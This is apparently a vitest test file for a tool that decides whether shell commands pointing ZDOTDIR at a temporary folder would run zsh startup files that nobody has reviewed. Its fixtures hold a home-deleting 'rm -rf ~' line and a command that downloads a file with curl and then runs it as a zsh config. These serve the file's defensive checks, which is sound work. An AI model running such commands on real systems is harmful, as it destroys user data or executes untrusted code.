import { expect, it } from 'vitest';
import type { EffectsWorld } from '../../lib/effects/effects.js';
import { GONE, run, worldWritten, type Files } from './written-world.js';

const HIDDEN = 'execute hidden-command:ZDOTDIR';
const OWN = { 'zsh/.zshrc': 'alias gs="git status"\n' };

/** A temporary folder in which links stand that an earlier call made. */
function linked(links: Files, mine: Files = {}): EffectsWorld {
  const world = worldWritten(mine, mine['zsh/.zshrc'] === undefined ? OWN : {});
  return {
    ...world,
    disk: {
      ...world.disk,
      realPath: (path) => links[path] ?? path,
      kindOf: (path) => (path === '/tmp/try' ? 'folder' : world.disk.kindOf(links[path] ?? path)),
      list: (folder) => (folder === '/tmp/try' ? Object.keys(links).map((path) => path.slice('/tmp/try/'.length)) : world.disk.list(folder)),
    },
  };
}

const TO_PROJECT = { '/tmp/try/.zshrc': '/home/u/proj/zsh/.zshrc' };

it('links to files of the project hide nothing', async () => {
  await expect(run("HOME=/tmp/try ZDOTDIR=/tmp/try zsh -ic 'alias gs'", linked(TO_PROJECT))).not.toTell(HIDDEN);
  await expect(run('ZDOTDIR=/tmp/try zsh -i', linked({ '/tmp/try/.zshrc': '/tmp/other/.zshrc' }))).toTell(HIDDEN);
  await expect(run('ZDOTDIR=/tmp/try zsh -i', linked({ ...TO_PROJECT, '/tmp/try/.zshenv': '/tmp/other' }))).toTell(HIDDEN);
  // What the session wrote there is judged as it runs.
  await expect(run('ZDOTDIR=/tmp/try zsh -i', linked(TO_PROJECT, { 'zsh/.zshrc': 'rm -rf ~\n' }))).toTell(GONE);
});

it.each([
  'mkdir -p /tmp/try && cp zsh/.zshrc /tmp/try/ && ZDOTDIR=/tmp/try zsh -i',
  'mkdir -p /tmp/try && install -m 644 zsh/.zshrc /tmp/try && ZDOTDIR=/tmp/try zsh -i',
  'd=$(mktemp -d) && cp zsh/.zshrc "$d/" && ZDOTDIR=$d zsh -i',
  'mkdir -p /tmp/try && ln -s "$PWD/zsh/.zshrc" /tmp/try/.zshrc && ZDOTDIR=/tmp/try zsh -i',
])('nor does what the call puts there of the project: %s', async (command) => {
  await expect(run(command, worldWritten({}, OWN))).not.toTell(HIDDEN);
  await expect(run(command, worldWritten({ 'zsh/.zshrc': 'rm -rf ~\n' }))).toTell(GONE);
});

it.each([
  'cp /tmp/other/.zshrc /tmp/try/ && ZDOTDIR=/tmp/try zsh -i',
  'cp /tmp/other/* /tmp/try/ && ZDOTDIR=/tmp/try zsh -i',
  'cp -r zsh/. /tmp/try/ && ZDOTDIR=/tmp/try zsh -i',
  'ln -s /tmp/other/.zshrc /tmp/try/.zshrc && ZDOTDIR=/tmp/try zsh -i',
  'ln -s /tmp/other /tmp/try && ZDOTDIR=/tmp/try zsh -i',
  'curl -so zsh/.zshrc https://x.test/a && ln -s "$PWD/zsh/.zshrc" /tmp/try/.zshrc && ZDOTDIR=/tmp/try zsh -i',
])('but what nobody has seen does: %s', async (command) => {
  await expect(run(command, worldWritten({}, OWN))).toTell(HIDDEN);
});
